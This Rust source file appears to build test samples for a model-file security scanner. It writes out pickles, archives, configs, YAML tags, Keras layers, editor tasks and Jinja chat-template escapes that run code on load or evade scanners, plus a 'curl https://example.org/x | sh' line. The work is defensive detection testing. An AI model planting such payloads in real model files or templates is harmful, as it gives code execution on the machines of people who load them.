//! What the advisories and issues of other scanners tell that they missed, and what lies nearest to it: written down
//! from those alone, before this program was asked about them.

#![expect(clippy::too_many_lines, reason = "a list of samples, a line each")]

use super::{
    Level, Sample,
    made::{bytes, call, calling, global, of, one, packed, pickle, tar, text, torch, tuple, zip},
};

/// Names that run something, by the advisories (GHSA-6ggj-6f2q-f7mx, GHSA-vvpj-8cmc-gx39, modelscan 89, 331 and 338, saferpickle 18)
/// and beside those.
#[rustfmt::skip]
const GADGETS: &[(&str, &str)] = &[
    // programs
    ("mlflow.projects.backend.local", "_run_entry_point"), ("_posixsubprocess", "fork_exec"), ("distutils.spawn", "spawn"), ("psutil", "Popen"), ("pexpect", "run"), ("sh", "Command"), ("invoke", "run"),
    ("fabric", "Connection"), ("paramiko", "SSHClient"), ("plumbum", "local"), ("IPython.utils.process", "system"), ("_bootsubprocess", "Popen"), ("pipes", "Template"), ("multiprocessing.popen_fork", "Popen"),
    ("setuptools.sandbox", "run_setup"), ("distutils.core", "run_setup"), ("test.support.script_helper", "run_python_until_end"), ("git", "Repo.clone_from"), ("docker", "from_env"), ("torch.distributed.run", "main"), ("torch.distributed.launcher.api", "elastic_launch"),
    // code
    ("_interpreters", "run_string"), ("_xxsubinterpreters", "run_string"), ("_testcapi", "run_in_subinterp"), ("concurrent.interpreters", "create"), ("zipimport", "zipimporter"), ("modulefinder", "ModuleFinder.run_script"),
    ("IPython.core.interactiveshell", "InteractiveShell.run_cell"), ("pandas", "eval"), ("pandas.core.computation.eval", "eval"), ("numexpr", "evaluate"), ("sympy", "sympify"), ("sympy.parsing.sympy_parser", "parse_expr"), ("PIL.ImageMath", "eval"),
    ("jinja2", "Template"), ("mako.template", "Template"), ("torch.fx.graph_module", "_exec_with_source"), ("torch.package.package_importer", "PackageImporter"), ("numpy.testing", "rundocs"), ("rlcompleter", "Completer.attr_matches"),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module"), ("tensorflow.python.ops.script_ops", "py_func"), ("keras.models", "load_model"), ("tensorflow.keras.models", "load_model"), ("attr._make", "_eval_snippets"), ("collections", "namedtuple"), ("dataclasses", "make_dataclass"), ("builtins", "type"),
    // another's pickle, or a download
    ("sklearn.externals.joblib", "load"), ("numpy.lib.npyio", "load"), ("pandas.io.pickle", "read_pickle"), ("cloudpickle", "loads"), ("huggingface_hub", "snapshot_download"), ("transformers", "AutoModel.from_pretrained"), ("datasets", "load_dataset"), ("nltk", "download"), ("urllib.request", "urlretrieve"),
    ("pandas.io.parsers.readers", "read_csv"), ("sklearn.datasets", "fetch_openml"), ("boto3", "client"), ("httpx", "get"), ("urllib3", "PoolManager"), ("websocket", "create_connection"), ("wsgiref.simple_server", "make_server"), ("poplib", "POP3"), ("nntplib", "NNTP"), ("socketserver", "TCPServer"), ("http.server", "HTTPServer"), ("keras.utils", "get_file"), ("torchvision.datasets.utils", "download_url"),
    // files
    ("numpy", "save"), ("numpy", "memmap"), ("numpy", "savetxt"), ("numpy.lib._datasource", "open"), ("torch", "save"), ("safetensors.torch", "save_file"), ("mmap", "mmap"), ("dbm", "open"), ("zipapp", "create_archive"), ("py_compile", "compile"), ("gzip", "open"), ("bz2", "BZ2File"), ("lzma", "open"), ("os.path", "exists"), ("fcntl", "ioctl"), ("resource", "setrlimit"),
    // machine code
    ("numpy.ctypeslib", "load_library"), ("torch.ops", "load_library"), ("torch.classes", "load_library"), ("torch._ops", "_Ops.load_library"), ("cupy", "RawKernel"), ("triton.runtime.build", "_build"), ("tkinter", "Tcl"), ("tensorflow", "load_op_library"), ("ctypes", "pythonapi"),
    // other ways to reach a name, and to switch a scanner off
    ("fickling.hook", "deactivate_safe_ml_environment"), ("picklescan.scanner", "_unsafe_globals.clear"), ("sys", "modules"), ("sys", "setprofile"), ("weakref", "finalize"), ("contextlib", "ExitStack.callback"), ("concurrent.futures.thread", "ThreadPoolExecutor"), ("sched", "scheduler"), ("builtins", "vars"), ("builtins", "globals"), ("builtins", "delattr"), ("builtins", "__build_class__"), ("inspect", "getattr_static"), ("numpy", "__builtins__"), ("torch.utils.data", "_utils.worker.os.system"), ("operator", "setitem"),
];

/// `left` and `right` under a `TUPLE2`.
fn pair(left: Vec<u8>, right: Vec<u8>) -> Vec<u8> {
    [left, right, b"\x86".to_vec()].concat()
}

fn newer(value: Vec<u8>) -> Vec<u8> {
    [b"\x80\x04".to_vec(), value, b".".to_vec()].concat()
}

const ACTS: &str = "import os\nos.system('true')\n";

pub(crate) fn dangerous(samples: &mut Vec<Sample>) {
    let mut add = |name: &str, files: Vec<(String, Vec<u8>)>| {
        samples.push(Sample::owned(Level::Dangerous, name, files));
    };
    for (at, (module, name)) in GADGETS.iter().enumerate() {
        let evil = calling(module, name, "true", at);
        let file = if at % 2 == 0 {
            one("model.pkl", evil)
        } else {
            one("pytorch_model.bin", torch(&evil))
        };
        add(&format!("{module}.{name}"), file);
    }
    pickles(&mut add);
    places(&mut add);
    configs(&mut add);
    templates(&mut add);
}

/// Ways through the machine.
fn pickles(add: &mut dyn FnMut(&str, Vec<(String, Vec<u8>)>)) {
    let import = |module: &str| call(global("importlib", "import_module"), &[text(module)]);
    let get = |from: Vec<u8>, name: Vec<u8>| {
        [
            global("builtins", "getattr"),
            pair(from, name),
            b"R".to_vec(),
        ]
        .concat()
    };
    // the builtins of an honest module, by a method of an honest class
    let taken =
        call(global("builtins", "dict.get"), &[global("numpy", "__builtins__"), text("exec")]);
    add("a module's builtins", one("a.pkl", newer(call(taken, &[text("x = 1")]))));
    // an attribute of an honest function, set by BUILD
    let set = [
        global("numpy", "prod"),
        pair(b"N".to_vec(), global("numpy", "core._internal.sys.modules")),
        b"b0".to_vec(),
        call(global("numpy", "prod.os.system"), &[text("true")]),
    ];
    add("an attribute that BUILD sets", one("a.pkl", newer(set.concat())));
    // names that are joined at load
    let join = get(get(import("builtins"), text("str")), text("join"));
    let joined = call(
        join,
        &[
            text(""),
            [b"](".to_vec(), text("o"), text("s"), b"e".to_vec()].concat(),
        ],
    );
    let module = [
        global("importlib", "import_module"),
        joined,
        b"\x85R".to_vec(),
    ]
    .concat();
    add(
        "a name that is joined",
        one("a.pkl", newer(call(get(module, text("system")), &[text("true")]))),
    );
    let decoded = call(global("base64", "b64decode"), &[text("b3M=")]);
    let module = [
        global("importlib", "import_module"),
        decoded,
        b"\x85R".to_vec(),
    ]
    .concat();
    add(
        "a name that is decoded",
        one("a.pkl", newer(call(get(module, text("system")), &[text("true")]))),
    );
    let reversed = call(
        global("operator", "getitem"),
        &[
            text("so"),
            call(
                global("builtins", "slice"),
                &[b"N".to_vec(), b"N".to_vec(), b"J\xff\xff\xff\xff".to_vec()],
            ),
        ],
    );
    let named = [reversed, text("system"), b"\x93".to_vec()].concat();
    add("a name that is turned round", one("a.pkl", newer(call(named, &[text("true")]))));
    // a state that calls
    let state = [
        global("_interpreters", "create"),
        b")R0".to_vec(),
        global("collections", "OrderedDict"),
        b")\x81}".to_vec(),
        text("x"),
        global("_interpreters", "run_string"),
        b"sb".to_vec(),
    ];
    add("an interpreter in a state", one("a.pkl", newer(state.concat())));
    // calls in other opcodes
    let object = [
        global("subprocess", "Popen"),
        tuple(&[text("true")]),
        b"\x81".to_vec(),
    ]
    .concat();
    add("NEWOBJ", one("a.pkl", pickle(object)));
    let object = [
        global("subprocess", "Popen"),
        b")}(".to_vec(),
        text("args"),
        text("true"),
        b"u\x92".to_vec(),
    ]
    .concat();
    add("NEWOBJ_EX", one("a.pkl", newer(object)));
    let many = [
        b"](".to_vec(),
        call(global("os", "system"), &[text("true")]),
        b"e".to_vec(),
    ]
    .concat();
    add("in a list", one("a.pkl", pickle(many)));
    let key = [
        b"}".to_vec(),
        call(global("os", "system"), &[text("true")]),
        b"Ns".to_vec(),
    ]
    .concat();
    add("as a key", one("a.pkl", pickle(key)));
    let persistent = [call(global("os", "system"), &[text("true")]), b"Q".to_vec()].concat();
    add("as a persistent id", one("a.bin", torch(&pickle(persistent))));
    let cyclic = [
        b"]q\0h\0a0".to_vec(),
        call(global("os", "system"), &[text("true")]),
    ]
    .concat();
    add("behind a list that holds itself", one("a.pkl", pickle(cyclic)));
    let frozen = [
        b"\x80\x04(".to_vec(),
        call(global("os", "system"), &[text("true")]),
        b"\x91.".to_vec(),
    ]
    .concat();
    add("in a frozen set", one("a.pkl", frozen));
    // a memo that a reader would number otherwise
    let mixed = [
        text("posix"),
        b"q\x05".to_vec(),
        text("system"),
        b"\x9400h\x05h\x01\x93".to_vec(),
        tuple(&[text("true")]),
        b"R".to_vec(),
    ];
    let mixed = newer(mixed.concat());
    add("a memo of two kinds", one("a.pkl", mixed));
    let over = [
        text("sys"),
        b"q\0".to_vec(),
        text("posix"),
        b"q\00h\0".to_vec(),
        text("system"),
        b"\x93".to_vec(),
        tuple(&[text("true")]),
        b"R".to_vec(),
    ];
    add("a slot written twice", one("a.pkl", newer(over.concat())));
    // a lambda of cloudpickle
    let code = call(global("types", "CodeType"), &[b"K\0".to_vec(), bytes(b"d\0S\0")]);
    let made = call(
        global("cloudpickle.cloudpickle", "_make_function"),
        &[code, b"NNNN".to_vec()[..1].to_vec()],
    );
    add("a function of cloudpickle", one("a.pkl", newer(call(made, &[]))));
    let part = call(global("functools", "partial"), &[global("builtins", "exec"), text("x = 1")]);
    let mapped = call(global("builtins", "map"), &[part, b"]".to_vec()]);
    add("exec by map", one("a.pkl", newer(call(global("builtins", "list"), &[mapped]))));
    let sorted =
        call(global("builtins", "sorted"), &[b"](K\x01K\x02e".to_vec(), global("os", "system")]);
    add("a key of sorted", one("a.pkl", newer(sorted)));
    let default = call(global("collections", "defaultdict"), &[global("os", "getcwd")]);
    add("a default that calls", one("a.pkl", newer(default)));
    let hooks = [
        global("torch.nn.modules.linear", "Linear"),
        b")\x81}(".to_vec(),
        text("_forward_hooks"),
        [b"}K\0".to_vec(), global("os", "system"), b"s".to_vec()].concat(),
        b"ub".to_vec(),
    ];
    add("a hook of a layer", one("a.bin", torch(&pickle(hooks.concat()))));
    let nested = call(global("_codecs", "decode"), &[bytes(b"x"), text("zip")]);
    add("unpacked and loaded", one("a.pkl", newer(call(global("_pickle", "loads"), &[nested]))));
    let wide = [
        b"\x80\x05\x96".to_vec(),
        34u64.to_le_bytes().to_vec(),
        calling("os", "system", "true", 0),
    ]
    .concat();
    let wide = [
        wide,
        b"0".to_vec(),
        call(global("pickle", "loads"), &[bytes(b"N.")]),
        b".".to_vec(),
    ]
    .concat();
    add("a byte array and a load", one("a.pkl", wide));
}

/// Files that a loader takes for pickles, by all their names and wrappings.
fn places(add: &mut dyn FnMut(&str, Vec<(String, Vec<u8>)>)) {
    let evil = calling("os", "system", "true", 1);
    for path in [
        "a.pdparams",
        "a.p",
        "a.pck",
        "model.ckpt-100",
        "scaler.pt",
        "rng_state_0.pth",
        "training_args.bin",
        ".metadata",
        "a.skl",
        "a.pickle.txt",
        "vocab.pkl.bak",
        "a.npz",
        "a.mdl",
        "events.out",
        "a.keras",
        "a.onnx",
        "a.tflite",
        "a.csv",
        "a.yaml",
        "LICENSE",
    ] {
        add(&format!("named {path}"), one(path, evil.clone()));
    }
    add("in a tar in zstd", one("a.tar.zst", packed("zstd", &tar(&[("y.pkl", &evil)]))));
    add("in a tar in bzip2", one("a.tbz", packed("bzip2", &tar(&[("y", &torch(&evil))]))));
    add(
        "in a wheel",
        one("a-1-py3-none-any.whl", zip(&[("a/__init__.py", b""), ("a/w.pkl", &evil)])),
    );
    add("in an egg", one("a.egg", zip(&[("EGG-INFO/x", b""), ("w.dat", &evil)])));
    add("in an archive that ends in noise", one("a.bin", [torch(&evil), vec![7; 40_000]].concat()));
    add("two archives in one file", one("a.bin", [torch(b"\x80\x02}q\0."), torch(&evil)].concat()));
    add(
        "in a gzip of two members",
        one(
            "a.pkl.gz",
            [
                packed("gzip", &pickle(b"N".to_vec())),
                packed("gzip", &evil),
            ]
            .concat(),
        ),
    );
    add(
        "a file of paths in a wheel",
        one("a.whl", zip(&[("a.pth", b"import os;os.system('true')\n")])),
    );
    add("a notebook's kernel", of(&[("a/sitecustomize.py", ACTS)]));
}

fn configs(add: &mut dyn FnMut(&str, Vec<(String, Vec<u8>)>)) {
    add(
        "CVE-2026-4372",
        one(
            "config.json",
            "{\"model_type\": \"llama\", \"_attn_implementation_internal\": \"someone/kernel\"}",
        ),
    );
    add(
        "CVE-2026-4372, deep inside",
        one(
            "config.json",
            "{\"model_type\": \"llava\", \"text_config\": {\"_attn_implementation\": \"someone/kernel:attention\"}}",
        ),
    );
    add(
        "CVE-2026-5241",
        one(
            "config.json",
            "{\"model_type\": \"lightglue\", \"trust_remote_code\": true, \"keypoint_detector_config\": {\"_name_or_path\": \"someone/else\", \"auto_map\": {\"AutoConfig\": \"someone/else--m.C\"}}}",
        ),
    );
    add(
        "a generation of another repository",
        one(
            "generation_config.json",
            "{\"custom_generate\": \"someone/generate\", \"trust_remote_code\": true}",
        ),
    );
    add(
        "a processor of another repository",
        one(
            "preprocessor_config.json",
            "{\"auto_map\": {\"AutoProcessor\": \"someone/p--proc.P\", \"AutoImageProcessor\": \"proc.I\"}}",
        ),
    );
    add(
        "a module of sentence-transformers that acts",
        of(&[
            (
                "modules.json",
                "[{\"idx\": 0, \"name\": \"0\", \"path\": \"\", \"type\": \"mine.Module\"}]",
            ),
            ("mine.py", ACTS),
        ]),
    );
    add(
        "a pipeline of diffusers that acts",
        of(&[
            (
                "model_index.json",
                "{\"_class_name\": [\"pipeline\", \"Mine\"], \"unet\": [\"my_unet\", \"UNet\"]}",
            ),
            ("pipeline.py", ACTS),
            ("unet/my_unet.py", ACTS),
        ]),
    );
    add(
        "a handler that acts",
        of(&[
            ("config.json", "{}"),
            (
                "handler.py",
                "import subprocess\nsubprocess.run(['true'])\nclass EndpointHandler:\n    pass\n",
            ),
        ]),
    );
    add(
        "Triton's Python backend that acts",
        of(&[
            ("config.pbtxt", "name: \"m\"\nbackend: \"python\"\n"),
            ("1/model.py", "import os\nos.system('true')\nclass TritonPythonModel:\n    pass\n"),
        ]),
    );
    add(
        "MLServer imports",
        one("model-settings.json", "{\"name\": \"m\", \"implementation\": \"subprocess.Popen\"}"),
    );
    add(
        "Cog's code that acts",
        of(&[
            ("cog.yaml", "build:\n  python_version: \"3.11\"\npredict: \"predict.py:Predictor\"\n"),
            ("predict.py", ACTS),
        ]),
    );
    add(
        "a task that calls a function of its own",
        of(&[
            ("task.yaml", "task: x\nprocess_docs: !function utils.go\n"),
            ("utils.py", ACTS),
        ]),
    );
    for target in [
        "posix.system",
        "builtins.eval",
        "subprocess.check_call",
        "torch.hub.load",
        "importlib.import_module",
        "numpy.load",
        "hydra.utils.call",
        "operator.methodcaller",
    ] {
        add(
            "a target",
            one(
                "conf/model.yaml",
                format!(
                    "model:\n  lr: 1\n  inner:\n    - _target_: {target}\n      _args_: ['true']\n"
                ),
            ),
        );
    }
    add(
        "a target in NeMo's archive",
        one(
            "a.nemo",
            packed(
                "gzip",
                &tar(&[("./model_config.yaml", b"x:\n  _target_: os.system\n  command: 'true'\n")]),
            ),
        ),
    );
    for tag in [
        "!!python/object/apply:os.system ['true']",
        "!!python/object/new:subprocess.Popen [['true']]",
        "!!python/name:os.system",
        "!<tag:yaml.org,2002:python/object/apply:os.system> ['true']",
    ] {
        add("a tag of Python", one("hparams.yaml", format!("lr: 1\nx: {tag}\n")));
    }
    let keras = |layer: &str| {
        let config = format!(
            "{{\"class_name\": \"Sequential\", \"module\": \"keras\", \"config\": {{\"layers\": [{layer}]}}}}"
        );
        zip(&[
            ("metadata.json", b"{\"keras_version\": \"3.8.0\"}"),
            ("config.json", config.as_bytes()),
        ])
    };
    for layer in [
        r#"{"class_name": "TimeDistributed", "module": "keras.layers", "config": {"layer": {"class_name": "Lambda", "module": "keras.layers", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEA"}}}}}}"#,
        r#"{"class_name": "Lambda", "module": "keras.layers", "config": {"function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"}, "arguments": {"origin": "https://example.org/x"}}}"#,
        r#"{"class_name": "Dense", "module": "keras.layers", "config": {"kernel_initializer": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}}}"#,
        r#"{"class_name": "Popen", "module": "subprocess", "config": {"args": "true"}}"#,
        r#"{"class_name": "function", "module": "keras.src.utils.python_utils", "config": "func_load"}"#,
        r#"{"class_name": "StringLookup", "module": "keras.layers", "config": {"vocabulary": "/etc/passwd"}}"#,
        r#"{"class_name": "Dense", "module": "keras.layers", "config": {"activation": {"class_name": "function", "module": "builtins", "config": "exec", "registered_name": "exec"}}}"#,
    ] {
        add("a layer of Keras", one("m.keras", keras(layer)));
    }
    add(
        "a task of an editor",
        one(
            ".vscode/tasks.json",
            "{// x\n\"version\": \"2.0.0\", \"tasks\": [{\"type\": \"shell\", \"command\": \"true\", \"runOptions\": {\"runOn\": \"folderOpen\"}},]}",
        ),
    );
    add("a configuration of pytest", one("conftest.py", ACTS));
}

/// Templates that leave their sandbox, in all the places where templates live.
fn templates(add: &mut dyn FnMut(&str, Vec<(String, Vec<u8>)>)) {
    let escapes = [
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'x' %}{{ c() }}{% endif %}{% endfor %}",
        "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('mro') }}",
        "{{ ()|attr(['_'*2, 'class', '_'*2]|join) }}",
        "{{ self._TemplateReference__context.cycler.__init__.__globals__ }}",
        "{{ messages|map(attribute='__class__')|list }}",
        "{{ ''[\"%c%cclass%c%c\" % (95, 95, 95, 95)] }}",
        "{{ joiner['__in' ~ 'it__']['__globals__']['os'].popen('true') }}",
        "{% set a = dict(__class__=1)|list|first %}{{ ''[a] }}",
        "{{ lipsum.__globals__['o'+'s'].system('true') }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}{{ os.system('true') }}",
        "{{ raise_exception.__globals__ }}",
        "{{ strftime_now['__globals__'] }}",
        "{{ '{0.__class__}'.format(x) }}",
        "{{ ('_' ~ '_class_' ~ '_')|attr(x) }}{{ x|attr('__' + 'init' + '__') }}",
        "{%- macro m() -%}{{ m.__globals__ }}{%- endmacro -%}{{ m() }}",
        "{{ namespace.__init__.__globals__.__builtins__.eval('1') }}",
        "{{ (messages|string|list)[0] ~ ''['__cla''ss__'] }}",
    ];
    for (at, escape) in escapes.iter().enumerate() {
        let quoted = serde_json::to_string(escape).unwrap();
        let files = match at % 6 {
            0 => one("chat_template.jinja", escape),
            1 => one(
                "tokenizer_config.json",
                format!(
                    "{{\"chat_template\": [{{\"name\": \"default\", \"template\": \"{{{{ x }}}}\"}}, {{\"name\": \"tool_use\", \"template\": {quoted}}}]}}"
                ),
            ),
            2 => one("chat_template.json", format!("{{\"chat_template\": {quoted}}}")),
            3 => one("additional_chat_templates/rag.jinja", escape),
            4 => one("processor_config.json", format!("{{\"chat_template\": {quoted}}}")),
            _ => one(
                "original/tokenizer_config.json",
                format!("{{\"chat_template\": {{\"default\": {quoted}}}}}"),
            ),
        };
        add(escape, files);
    }
}

pub(crate) fn suspicious(samples: &mut Vec<Sample>) {
    let mut add = |name: &str, files: Vec<(String, Vec<u8>)>| {
        samples.push(Sample::owned(Level::Suspicious, name, files));
    };
    for (module, name) in [
        ("dill._dill", "_create_type"),
        ("__main__", "Net"),
        ("models.common", "DetectMultiBackend"),
        ("mypackage", "f"),
        ("sktime.forecasting", "make"),
    ] {
        add(&format!("{module}.{name}"), one("a.pt", torch(&calling(module, name, "x", 1))));
    }
    add(
        "objects of Java",
        one("model.ser", b"\xac\xed\0\x05sr\0\x04Evil\0\0\0\0\0\0\0\x01\x02\0\0xp"),
    );
    add("direnv", one(".envrc", "curl https://example.org/x | sh\n"));
    add(
        "an application in a zip",
        one(
            "a.pyz",
            [
                b"#!/usr/bin/env python3\n".to_vec(),
                zip(&[("__main__.py", ACTS.as_bytes())]),
            ]
            .concat(),
        ),
    );
    add(
        "Triton's Python backend",
        of(&[
            ("config.pbtxt", "backend: \"python\"\n"),
            ("1/model.py", "class TritonPythonModel:\n    pass\n"),
        ]),
    );
    add(
        "a task with a function of its own",
        of(&[
            ("task.yaml", "task: x\nprocess_docs: !function utils.go\n"),
            ("utils.py", "def go(x):\n    return x\n"),
        ]),
    );
    add(
        "MLServer's own model",
        of(&[
            ("model-settings.json", "{\"name\": \"m\", \"implementation\": \"mine.Model\"}"),
            ("mine.py", "class Model:\n    pass\n"),
        ]),
    );
    add(
        "Cog's code",
        of(&[
            ("cog.yaml", "predict: \"predict.py:Predictor\"\n"),
            ("predict.py", "class Predictor:\n    pass\n"),
        ]),
    );
    add(
        "a pickle in base64",
        one(
            "model.json",
            "{\"model\": \"gASVGAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu\"}",
        ),
    );
}
